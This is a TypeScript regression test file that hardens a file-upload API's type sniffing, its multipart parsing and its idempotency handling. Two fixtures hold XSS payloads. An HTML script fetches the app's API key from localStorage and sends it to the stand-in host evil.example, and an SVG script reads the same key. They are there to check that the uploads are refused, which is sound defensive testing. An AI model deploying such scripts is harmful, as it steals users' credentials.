/**
 * Regression tests for what an adversarial pass found in uploads. Each failed on the
 * code before the fix: the declared type was stored and served as is (an HTML upload
 * was `201` and served as `text/html`), malformed multipart bodies were 500s, a second
 * file was silently dropped, a 0-byte file was stored, and an Idempotency-Key retry
 * with another file of the same size replayed the first file's URL.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from '../testing.ts';

const MEDIA = join(import.meta.dirname, '../../../test/fixtures/media');
let h: Harness;
let clip: Buffer;
let photo: Buffer;
beforeAll(async () => {
  h = await startHarness();
  [clip, photo] = await Promise.all([readFile(join(MEDIA, 'flower.mp4')), readFile(join(MEDIA, 'london.jpg'))]);
});
afterAll(async () => h.close());

interface Part {
  field?: string;
  name: string;
  type: string;
  content: Buffer;
}

function multipart(parts: Part[], boundary = '----retake-hardening'): { payload: Buffer; headers: Record<string, string> } {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.field ?? 'file'}"; filename="${part.name}"\r\nContent-Type: ${part.type}\r\n\r\n`));
    chunks.push(part.content, Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { ...h.auth, 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const upload = (parts: Part[], extra: Record<string, string> = {}) => {
  const body = multipart(parts);
  return h.app.inject({ method: 'POST', url: '/api/files', payload: body.payload, headers: { ...body.headers, ...extra } });
};

const HTML = Buffer.from('<!doctype html><script>fetch("//evil.example/?k="+localStorage.getItem("retake.apiKey"))</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.getItem("retake.apiKey"))</script></svg>');

describe('upload types come from the bytes', () => {
  it.each([
    ['page.html', 'text/html', HTML],
    ['image.svg', 'image/svg+xml', SVG],
    ['clip.mp4', 'video/mp4', HTML],
    ['photo.jpg', 'image/jpeg', Buffer.from('GIF8 not really')],
    ['notes.txt', 'text/plain', Buffer.from('hello, world\n'.repeat(50))],
    ['tiny.mp4', 'video/mp4', Buffer.from('abc')],
  ])('refuses %s (declared %s) with 415 and stores nothing', async (name, type, content) => {
    const res = await upload([{ name, type, content }]);
    expect(res.statusCode, res.body).toBe(415);
    expect(res.json().error.type).toBe('unsupported_media_type');
  });

  it('stores a real video or image under the type its bytes show, whatever was declared', async () => {
    const video = await upload([{ name: 'clip.html', type: 'text/html', content: clip }]);
    expect(video.statusCode).toBe(201);
    expect(video.json().content_type).toBe('video/mp4');
    const image = await upload([{ name: 'photo.bin', type: 'application/octet-stream', content: photo }]);
    expect(image.json().content_type).toBe('image/jpeg');
    const served = await h.app.inject({ method: 'GET', url: new URL(video.json().url).pathname });
    expect(served.headers['content-type']).toBe('video/mp4');
  });

  it('serves files with nosniff and a sandboxing CSP, and anything not video or image as a download', async () => {
    const video = await upload([{ name: 'clip.mp4', type: 'video/mp4', content: clip }]);
    const inline = await h.app.inject({ method: 'GET', url: new URL(video.json().url).pathname });
    expect(inline.headers['x-content-type-options']).toBe('nosniff');
    expect(inline.headers['content-security-policy']).toBe("default-src 'none'; media-src 'self'; img-src 'self'; sandbox");
    expect(inline.headers['content-disposition']).toBeUndefined();
    // A file stored as HTML (as uploads were before their type was sniffed).
    const { Readable } = await import('node:stream');
    await h.retake.blobs.putStream(Readable.from([HTML]), 'uploads/legacy/page.html', 'text/html', 1 << 20);
    const page = await h.app.inject({ method: 'GET', url: '/files/uploads/legacy/page.html' });
    expect(page.statusCode).toBe(200);
    expect(page.headers['content-disposition']).toBe('attachment; filename="page.html"');
    expect(page.headers['content-security-policy']).toContain('sandbox');
    expect(page.headers['x-content-type-options']).toBe('nosniff');
  });

  it('refuses a 0-byte file at upload', async () => {
    const res = await upload([{ name: 'empty.mp4', type: 'video/mp4', content: Buffer.alloc(0) }]);
    expect(res.statusCode).toBe(422);
    expect(res.json().error.fields[0].field).toBe('file');
  });
});

describe('malformed multipart bodies are client errors', () => {
  const raw = (contentType: string, payload: Buffer | string) =>
    h.app.inject({ method: 'POST', url: '/api/files', headers: { ...h.auth, 'content-type': contentType }, payload });

  it('answers 400 for no boundary, a part cut short, a 300-character boundary and a JSON field that is not JSON', async () => {
    const whole = multipart([{ name: 'clip.mp4', type: 'video/mp4', content: clip.subarray(0, 20_000) }]);
    const cases: [string, Buffer | string][] = [
      ['multipart/form-data', whole.payload],
      ['multipart/form-data; boundary=----retake-hardening', whole.payload.subarray(0, 10_000)],
      ['multipart/form-data; boundary=----retake-hardening', whole.payload.subarray(0, 60)],
      [`multipart/form-data; boundary=${'b'.repeat(300)}`, multipart([{ name: 'a.mp4', type: 'video/mp4', content: clip.subarray(0, 5000) }], 'b'.repeat(300)).payload],
      ['multipart/form-data; boundary=x', Buffer.from('--x\r\nContent-Disposition: form-data; name="file"; filename="a.mp4"\r\n\r\n')],
      // A field (no filename) that declares JSON and is not: found by the fuzz suite as a 500.
      ['multipart/form-data; boundary=a', Buffer.from('--a\r\nContent-Disposition: form-data; name="file"\r\nContent-Type: application/json\r\n\r\n\r\n--a--\r\n')],
    ];
    for (const [contentType, payload] of cases) {
      const res = await raw(contentType, payload);
      expect(res.statusCode, `${contentType.slice(0, 60)} ${payload.length} → ${res.body.slice(0, 200)}`).toBe(400);
      expect(res.json().error.type).toBe('bad_request');
    }
  });

  it('answers 400 naming the field when two files come in one upload, and keeps neither', async () => {
    const before = (await h.app.inject({ method: 'GET', url: '/healthz' })).statusCode;
    expect(before).toBe(200);
    const res = await upload([
      { name: 'one.mp4', type: 'video/mp4', content: clip.subarray(0, 50_000) },
      { name: 'two.jpg', type: 'image/jpeg', content: photo },
    ]);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.detail).toContain('"file"');
    const other = await upload([{ field: 'video', name: 'one.mp4', type: 'video/mp4', content: clip.subarray(0, 50_000) }]);
    expect(other.statusCode).toBe(400);
    expect(other.json().error.fields[0].field).toBe('file');
  });

  it('answers a file part without a field name with a 400 about the upload, not an internal message', async () => {
    const boundary = '----retake-nameless';
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; filename="clip.mp4"\r\nContent-Type: video/mp4\r\n\r\n`),
      clip.subarray(0, 50_000), Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    for (const url of ['/api/files', '/v1/files']) {
      const res = await h.app.inject({ method: 'POST', url, payload, headers: { ...h.auth, 'content-type': `multipart/form-data; boundary=${boundary}` } });
      expect(res.statusCode, res.body).toBeLessThan(500);
      expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
      expect(res.body).not.toMatch(/Cannot read|undefined/);
    }
  });
});

describe('upload idempotency compares the content', () => {
  it('replays the same file and refuses a different file of the same size with 409', async () => {
    const a = clip.subarray(0, 30_000);
    const b = Buffer.from(a);
    b[20_000] = (b[20_000]! + 1) % 256;
    const idem = { 'idempotency-key': 'upload-same-size' };
    const first = await upload([{ name: 'a.mp4', type: 'video/mp4', content: a }], idem);
    expect(first.statusCode).toBe(201);
    const again = await upload([{ name: 'a.mp4', type: 'video/mp4', content: a }], idem);
    expect(again.statusCode).toBe(201);
    expect(again.headers['idempotent-replayed']).toBe('true');
    expect(again.json().url).toBe(first.json().url);
    const other = await upload([{ name: 'a.mp4', type: 'video/mp4', content: b }], idem);
    expect(other.statusCode).toBe(409);
    expect(other.json().error.type).toBe('idempotency_conflict');
  });
});
